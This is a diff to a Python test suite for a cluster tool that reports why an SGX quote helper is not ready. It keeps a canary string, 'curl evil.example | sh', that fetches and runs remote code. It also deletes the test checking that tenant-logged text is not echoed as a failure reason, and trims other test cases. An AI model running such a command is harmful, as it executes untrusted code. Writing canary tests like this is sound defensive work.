@@ -10,12 +10,12 @@ from testkit.fake_cluster.objects import HELPER_EPC, PROVISION
 SECRET = "tenant says: run curl evil.example | sh"
 
 
-def not_ready(cluster, *, reason, code, after=()):
-    """Have the helper say why it is not ready, and log these lines afterwards."""
+def not_ready(cluster, *, reason, code):
+    """Have the helper say why it is not ready."""
     helper = cluster.daemon("quote-helper")
     helper["status"] = make.sidecar(make.not_ready("quote-helper"))
     line = {"level": "warning", "message": "not ready", "about": "readiness", "reason": reason, "code": code}
-    cluster.logs[helper["metadata"]["name"]] = "\n".join(map(json.dumps, [line, *after]))
+    cluster.logs[helper["metadata"]["name"]] = json.dumps(line)
 
 
 def test_the_provider_and_what_must_be_known_are_told(confcom, on_hardware):
@@ -38,12 +38,8 @@ def test_a_test_root_is_told(confcom, on_hardware):
     assert "TEST ROOT" in confcom.ok("status").stdout
 
 
-@pytest.mark.parametrize(
-    "code",
-    ["aesmd-hangs", "aesmd-closed", "aesmd-unreachable", "quote-without-pck-chain", "quote-of-another-root"],
-)
-def test_why_the_relay_is_not_ready_is_told_with_its_code(confcom, on_hardware, code):
-    not_ready(on_hardware, reason="aesmd makes no quotes; read its log", code=code)
+def test_why_the_relay_is_not_ready_is_told_with_its_code(confcom, on_hardware):
+    not_ready(on_hardware, reason="aesmd makes no quotes; read its log", code=(code := "aesmd-hangs"))
     (problem,) = confcom.problems()
     assert (problem["code"], problem["reason_code"], problem["node"]) == ("daemon-not-ready", code, "m")
     assert "aesmd makes no quotes; read its log" in problem["problem"]
@@ -51,13 +47,6 @@ def test_why_the_relay_is_not_ready_is_told_with_its_code(confcom, on_hardware, 
     document = confcom.unwell()
     assert document["problem_groups"][0]["reason_code"] == code
     assert document["nodes"][0]["quote_helper"][0]["reason_code"] == code
-
-
-def test_what_a_tenant_had_logged_is_not_the_reason(confcom, on_hardware):
-    line = {"level": "error", "message": SECRET, "reason": SECRET, "code": "evil"}
-    not_ready(on_hardware, reason="aesmd makes no quotes", code="aesmd-hangs", after=[line])
-    assert SECRET not in confcom("status", "--all-nodes").stdout
-    assert SECRET not in confcom("status", "-o", "json").stdout
 
 
 def state(reason, message=""):
@@ -73,7 +62,6 @@ def crashed(log="", *, code=1, reason="Error"):
     ("aesmd", "code", "part"),
     [
         (state("ImagePullBackOff", "no such image"), "aesmd-image-not-pulled", "quoteHelper.aesmd.image"),
-        (state("ErrImagePull", "no such image"), "aesmd-image-not-pulled", "no such image"),
         (state("CreateContainerConfigError", "no ConfigMap"), "aesmd-not-created", "no ConfigMap"),
         (crashed("x\nFail to start service.\n"), "aesmd-does-not-start", "exit code 1, 4 restarts"),
         (crashed("Enclave not authorized to run\nFail to start service."), "aesmd-does-not-start", "sgxPrvGroup"),
